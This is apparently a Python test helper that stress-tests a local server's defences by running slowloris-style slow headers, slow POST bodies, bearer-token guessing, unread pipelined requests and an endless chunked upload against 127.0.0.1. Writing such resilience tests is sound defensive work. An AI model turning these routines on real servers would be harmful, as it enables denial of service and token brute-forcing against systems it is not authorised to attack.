"""A client without a token that wants the server to itself; run as a process of its own.

    python hostile.py PORT SOURCE

It prints "started" when all of its attacks are under way. When its standard input ends, so does it,
and prints what it was answered.
"""

from __future__ import annotations

import asyncio
import collections
import sys

HEAD = b"HTTP/1.1\r\nHost: 127.0.0.1\r\n"
SEEN: collections.Counter[str] = collections.Counter()


async def attack(name: str, port: int, source: str, act, pause: float) -> None:
    """Connect and act, again and again."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(
                "127.0.0.1", port, local_addr=(source, 0)
            )
        except OSError:
            SEEN[f"{name} no connection"] += 1
            await asyncio.sleep(pause)
            continue
        try:
            SEEN[f"{name} {await act(reader, writer)}"] += 1
        except (OSError, EOFError):
            SEEN[f"{name} cut"] += 1
        writer.close()
        await asyncio.sleep(pause)


async def slow_sign_in(reader, writer) -> str:
    """A body that comes byte by byte."""
    writer.write(b"POST /api/session " + HEAD + b"Content-Length: 3000\r\n\r\n")
    for _ in range(3000):
        writer.write(b"{")
        await writer.drain()
        await asyncio.sleep(0.2)
    return "done"


async def slow_head(reader, writer) -> str:
    """A head that comes line by line."""
    writer.write(b"GET / " + HEAD)
    for _ in range(1000):
        writer.write(b"X: y\r\n")
        await writer.drain()
        await asyncio.sleep(2)
    return "done"


async def wrong_token(reader, writer) -> str:
    """Guesses, one after the other on one connection."""
    for number in range(1000):
        writer.write(b"GET /api/info " + HEAD + b"Authorization: Bearer guess%06d\r\n\r\n" % number)
        answer = await reader.readuntil(b"\r\n\r\n")
        SEEN[f"guess {answer.split()[1].decode()}"] += 1
        size = int(answer.lower().split(b"content-length:")[1].split()[0])
        await reader.readexactly(size)
        await asyncio.sleep(0.05)
    return "done"


async def deaf(reader, writer) -> str:
    """Answers that are asked for and never read."""
    for _ in range(200):
        writer.write(b"GET /static/style.css " + HEAD + b"\r\n")
        await writer.drain()
    await asyncio.sleep(60)
    return "done"


async def endless(reader, writer) -> str:
    """An upload without an end and without a token."""
    writer.write(b"POST /api/search " + HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
    for _ in range(10_000):
        writer.write(b"4000\r\n" + b"x" * 0x4000 + b"\r\n")
        await writer.drain()
        await asyncio.sleep(0.02)
    return "done"


async def main(port: int, source: str) -> None:
    plan = [(slow_sign_in, 40, 0.5), (slow_head, 700, 3.0), (wrong_token, 3, 0.2), (deaf, 5, 0.5),
            (endless, 3, 0.2)]  # fmt: skip
    tasks = [
        asyncio.create_task(attack(act.__name__, port, source, act, pause))
        for act, count, pause in plan
        for _ in range(count)
    ]
    await asyncio.sleep(1)
    sys.stdout.write("started\n")
    sys.stdout.flush()
    await asyncio.to_thread(sys.stdin.read)
    for task in tasks:
        task.cancel()
    sys.stdout.write(f"{dict(SEEN)}\n")


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2]))
